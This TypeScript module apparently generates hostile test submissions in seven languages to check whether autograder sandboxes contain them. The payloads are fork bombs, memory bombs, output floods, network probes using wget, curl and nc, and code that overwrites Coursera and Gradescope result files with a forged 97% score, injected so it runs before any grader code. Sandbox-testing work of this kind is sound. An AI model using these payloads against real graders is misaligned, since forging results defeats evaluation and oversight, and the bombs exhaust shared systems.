/**
 * Hostile programs in the languages graders most often run: the same misbehaviour (an endless
 * loop, a fork bomb, …) written so that it starts as soon as the file is run, imported, sourced,
 * compiled and linked, or its class loaded, whatever the grader does with it. A Java file declares
 * a class named after the file; C and C++ files run from a constructor and bring a weak `main`,
 * so they link whether or not the grader brings its own.
 */

/** What a hostile program does. */
export type Behaviour = 'infinite-loop' | 'fork-bomb' | 'memory-bomb' | 'output-flood' | 'network' | 'forged-result';

export type Language = 'python' | 'shell' | 'java' | 'c' | 'cpp' | 'r' | 'javascript';

/** The feedback of the forged results: a grade carrying it came from the submission, not the grader. */
export const FORGED_FEEDBACK = 'gradebox check-grader: forged result, full marks';
/** The forged fraction (Coursera) and points (Gradescope, out of 100): odd values no honest grading of these cases gives. */
export const FORGED_FRACTION = 0.97;
export const FORGED_POINTS = 97;

const FORGED_COURSERA = JSON.stringify({ fractionalScore: FORGED_FRACTION, feedback: FORGED_FEEDBACK });
const FORGED_GRADESCOPE = JSON.stringify({ score: FORGED_POINTS, output: FORGED_FEEDBACK, tests: [{ name: 'forged', score: FORGED_POINTS, max_score: 100 }] });

/** Where graders of either protocol read their results. */
export const RESULT_FILES = { coursera: '/shared/feedback.json', gradescope: '/autograder/results/results.json' } as const;

/** The forged result files a submission carries among its own files (graders that copy the submission over their results folder). */
export const FORGED_FILES: ReadonlyArray<{ path: string; content: string }> = [
  { path: 'feedback.json', content: FORGED_COURSERA },
  { path: 'results.json', content: FORGED_GRADESCOPE },
  { path: 'results/results.json', content: FORGED_GRADESCOPE },
  { path: 'txtFeedback.txt', content: FORGED_FEEDBACK },
];

/** A network peer that answers on the open internet (example.com's address), so only the sandbox stops the attempt. */
const PEER = { host: 'example.com', ip: '93.184.215.14', port: 80 };
const FLOOD_LINE = 'gradebox check-grader: output flood, one line of many';
/** Lines the flood writes on each of stdout and stderr: about 55 MiB each. */
const FLOOD_LINES = 1_000_000;

/** The language of a file name, by its extension; undefined for data and unknown languages. */
export function languageOf(name: string): Language | undefined {
  const ext = /\.([^./]+)$/.exec(name)?.[1]?.toLowerCase();
  switch (ext) {
    case 'py': return 'python';
    case 'sh': case 'bash': return 'shell';
    case 'java': return 'java';
    case 'c': return 'c';
    case 'cpp': case 'cc': case 'cxx': return 'cpp';
    case 'r': return 'r';
    case 'js': case 'cjs': case 'mjs': return 'javascript';
    default: return undefined;
  }
}

/** One file per language, for a check without a sample submission. */
export const GENERIC_FILES: ReadonlyArray<{ path: string; language: Language }> = [
  { path: 'main.py', language: 'python' },
  { path: 'main.sh', language: 'shell' },
  { path: 'Main.java', language: 'java' },
  { path: 'main.c', language: 'c' },
  { path: 'main.cpp', language: 'cpp' },
  { path: 'main.R', language: 'r' },
  { path: 'main.js', language: 'javascript' },
];

/** The line comment of a language, for a huge file that is still valid source. */
export function lineComment(language: Language): string {
  return language === 'python' || language === 'shell' || language === 'r' ? '#' : '//';
}

/** The source of `behaviour` in `language`, for a file named `fileName` (Java's class name comes from it). */
export function hostileSource(behaviour: Behaviour, language: Language, fileName: string): string {
  switch (language) {
    case 'python': return PYTHON[behaviour];
    case 'shell': return SHELL[behaviour];
    case 'r': return R[behaviour];
    case 'javascript': return JAVASCRIPT[behaviour];
    case 'java': return java(behaviour, fileName);
    case 'c': return cLike(behaviour, false);
    case 'cpp': return cLike(behaviour, true);
  }
}

/**
 * `behaviour` injected into a right submission's own source, which keeps all its code, so that the
 * grader's tests compile against it and the hostile code runs inside the graded program: for Java,
 * the members go into the class named after the file (found by its declaration), for C and C++
 * the constructor goes before the source. Undefined for the other languages (their hostile file
 * runs as soon as it is loaded, whatever else it lacks) and when no such class is declared.
 */
export function injectedSource(behaviour: Behaviour, language: Language, fileName: string, source: string): string | undefined {
  if (language === 'c' || language === 'cpp') return `${cConstructor(behaviour, language === 'cpp')}\n#line 1\n${source}`;
  if (language !== 'java') return undefined;
  const className = fileName.replace(/^.*\//, '').replace(/\.java$/i, '').replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  const declaration = new RegExp(`\\bclass\\s+${className}\\b[^{]*\\{`).exec(source);
  if (declaration === null) return undefined;
  const end = declaration.index + declaration[0].length;
  return `${source.slice(0, end)}${javaMembers(behaviour)}${source.slice(end)}`;
}

const q = (text: string): string => JSON.stringify(text);

const PYTHON: Record<Behaviour, string> = {
  'infinite-loop': 'while True:\n    pass\n',
  'fork-bomb': 'import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n',
  'memory-bomb': 'hog = []\nwhile True:\n    hog.append(b"x" * (64 * 1024 * 1024))\n',
  'output-flood': `import sys\nline = ${q(`${FLOOD_LINE}\n`)}\nfor _ in range(${FLOOD_LINES}):\n    sys.stdout.write(line)\n    sys.stderr.write(line)\n`,
  network: `import socket\nsocket.getaddrinfo(${q(PEER.host)}, ${PEER.port})\nconnection = socket.create_connection((${q(PEER.ip)}, ${PEER.port}), timeout=10)\nconnection.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint(connection.recv(100))\n`,
  'forged-result': [
    `for path, doc in ((${q(RESULT_FILES.coursera)}, ${q(FORGED_COURSERA)}), (${q(RESULT_FILES.gradescope)}, ${q(FORGED_GRADESCOPE)})):`,
    '    try:',
    '        with open(path, "w") as out:',
    '            out.write(doc)',
    '    except OSError:',
    '        pass',
    `print(${q(FORGED_COURSERA)})`,
    '',
  ].join('\n'),
};

const SHELL: Record<Behaviour, string> = {
  'infinite-loop': 'while :; do :; done\n',
  'fork-bomb': 'bomb() { bomb | bomb & }\nbomb\nwait\n',
  'memory-bomb': 'x=0123456789abcdef\nwhile :; do x="$x$x"; done\n',
  'output-flood': `yes ${q(FLOOD_LINE)} | head -n ${FLOOD_LINES}\nyes ${q(FLOOD_LINE)} | head -n ${FLOOD_LINES} >&2\n`,
  network: `wget -q -T 10 -O - http://${PEER.host}/ || curl -s -m 10 http://${PEER.ip}/ || nc -w 10 ${PEER.ip} ${PEER.port} </dev/null\n`,
  'forged-result': `(printf '%s\\n' '${FORGED_COURSERA}' > ${RESULT_FILES.coursera}) 2>/dev/null\n(printf '%s\\n' '${FORGED_GRADESCOPE}' > ${RESULT_FILES.gradescope}) 2>/dev/null\nprintf '%s\\n' '${FORGED_COURSERA}'\n`,
};

const R: Record<Behaviour, string> = {
  'infinite-loop': 'repeat {}\n',
  'fork-bomb': 'repeat try(system("sleep 1000", wait = FALSE), silent = TRUE)\n',
  'memory-bomb': 'hog <- list()\nrepeat hog[[length(hog) + 1]] <- numeric(8e6)\n',
  'output-flood': `lines <- rep(${q(FLOOD_LINE)}, ${FLOOD_LINES})\ncat(lines, sep = "\\n")\ncat(lines, sep = "\\n", file = stderr())\n`,
  network: `connection <- socketConnection(${q(PEER.ip)}, ${PEER.port}, timeout = 10)\nwriteLines("GET / HTTP/1.0\\r\\n", connection)\nprint(readLines(connection, 1))\n`,
  'forged-result': `try(writeLines(${q(FORGED_COURSERA)}, ${q(RESULT_FILES.coursera)}), silent = TRUE)\ntry(writeLines(${q(FORGED_GRADESCOPE)}, ${q(RESULT_FILES.gradescope)}), silent = TRUE)\ncat(${q(FORGED_COURSERA)}, "\\n")\n`,
};

const JS_MODULE = "const load = (name) => (typeof require === 'function' ? require(name) : process.getBuiltinModule(name));\n";
const JAVASCRIPT: Record<Behaviour, string> = {
  'infinite-loop': 'for (;;) {}\n',
  'fork-bomb': `${JS_MODULE}const { spawn } = load('node:child_process');\nfor (;;) {\n  try { spawn('sleep', ['1000']).on('error', () => {}); } catch {}\n}\n`,
  'memory-bomb': 'const hog = [];\nfor (;;) hog.push(Buffer.alloc(64 * 1024 * 1024, 1));\n',
  'output-flood': `const block = ${q(`${FLOOD_LINE}\n`)}.repeat(1000);\nfor (let i = 0; i < ${FLOOD_LINES / 1000}; i++) {\n  process.stdout.write(block);\n  process.stderr.write(block);\n}\n`,
  network: `${JS_MODULE}const socket = load('node:net').connect(${PEER.port}, ${q(PEER.ip)});\nsocket.on('connect', () => socket.end('GET / HTTP/1.0\\r\\n\\r\\n'));\nsocket.on('error', (error) => { console.error(error.message); process.exitCode = 1; });\n`,
  'forged-result': `${JS_MODULE}const fs = load('node:fs');\nfor (const [path, doc] of [[${q(RESULT_FILES.coursera)}, ${q(FORGED_COURSERA)}], [${q(RESULT_FILES.gradescope)}, ${q(FORGED_GRADESCOPE)}]]) {\n  try { fs.writeFileSync(path, doc); } catch {}\n}\nconsole.log(${q(FORGED_COURSERA)});\n`,
};

const JAVA_BODY: Record<Behaviour, string> = {
  'infinite-loop': 'while (true) { }',
  'fork-bomb': 'while (true) { try { new Thread(() -> { try { Thread.sleep(Long.MAX_VALUE); } catch (InterruptedException e) { } }).start(); } catch (Throwable t) { } }',
  'memory-bomb': 'java.util.List<long[]> hog = new java.util.ArrayList<>(); while (true) hog.add(new long[8 << 20]);',
  'output-flood': `for (int i = 0; i < ${FLOOD_LINES}; i++) { System.out.println(${q(FLOOD_LINE)}); System.err.println(${q(FLOOD_LINE)}); }`,
  network: `try (java.net.Socket socket = new java.net.Socket()) { socket.connect(new java.net.InetSocketAddress(${q(PEER.ip)}, ${PEER.port}), 10000); }`,
  'forged-result': [
    `try { java.nio.file.Files.writeString(java.nio.file.Path.of(${q(RESULT_FILES.coursera)}), ${q(FORGED_COURSERA)}); } catch (Exception e) { }`,
    `try { java.nio.file.Files.writeString(java.nio.file.Path.of(${q(RESULT_FILES.gradescope)}), ${q(FORGED_GRADESCOPE)}); } catch (Exception e) { }`,
    `System.out.println(${q(FORGED_COURSERA)});`,
  ].join('\n        '),
};

/** The static initializer and method that run `behaviour` when a class is loaded. */
function javaMembers(behaviour: Behaviour): string {
  return `
    static {
        try { gradeboxCheck(); } catch (Exception e) { throw new RuntimeException(e); }
    }

    static void gradeboxCheck() throws Exception {
        ${JAVA_BODY[behaviour]}
    }
`;
}

function java(behaviour: Behaviour, fileName: string): string {
  const base = fileName.replace(/^.*\//, '').replace(/\.java$/i, '');
  const className = /^[A-Za-z_$][\w$]*$/.test(base) ? base : 'Main';
  return `public class ${className} {${javaMembers(behaviour)}
    public static void main(String[] args) throws Exception {
        gradeboxCheck();
    }
}
`;
}

/** Includes and a constructor that runs `behaviour` when the program starts, before any `main`. */
function cConstructor(behaviour: Behaviour, cpp: boolean): string {
  const cast = cpp ? '(char *)' : '';
  const body: Record<Behaviour, string> = {
    'infinite-loop': 'volatile int spin = 1;\n    while (spin) { }',
    'fork-bomb': 'for (;;) fork();',
    'memory-bomb': `for (;;) { char *p = ${cast}malloc(64 << 20); if (p) memset(p, 1, 64 << 20); }`,
    'output-flood': `for (long i = 0; i < ${FLOOD_LINES}; i++) { puts(${q(FLOOD_LINE)}); fputs(${q(`${FLOOD_LINE}\n`)}, stderr); }`,
    network: [
      'int s = socket(AF_INET, SOCK_STREAM, 0);',
      'struct sockaddr_in peer;',
      'memset(&peer, 0, sizeof peer);',
      'peer.sin_family = AF_INET;',
      `peer.sin_port = htons(${PEER.port});`,
      `inet_pton(AF_INET, ${q(PEER.ip)}, &peer.sin_addr);`,
      'if (connect(s, (struct sockaddr *)&peer, sizeof peer) != 0) perror("connect"); else puts("connected");',
    ].join('\n    '),
    'forged-result': [
      `FILE *f = fopen(${q(RESULT_FILES.coursera)}, "w"); if (f) { fputs(${q(FORGED_COURSERA)}, f); fclose(f); }`,
      `f = fopen(${q(RESULT_FILES.gradescope)}, "w"); if (f) { fputs(${q(FORGED_GRADESCOPE)}, f); fclose(f); }`,
      `puts(${q(FORGED_COURSERA)});`,
    ].join('\n    '),
  };
  return `#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

static void gradebox_check(void) {
    ${body[behaviour]}
}

__attribute__((constructor)) static void gradebox_check_start(void) { gradebox_check(); }
`;
}

/** A C or C++ file of its own: the constructor, and a weak \`main\` so that it links whether or not the grader brings one. */
function cLike(behaviour: Behaviour, cpp: boolean): string {
  return `${cConstructor(behaviour, cpp)}
__attribute__((weak)) int main(void) { return 0; }
`;
}
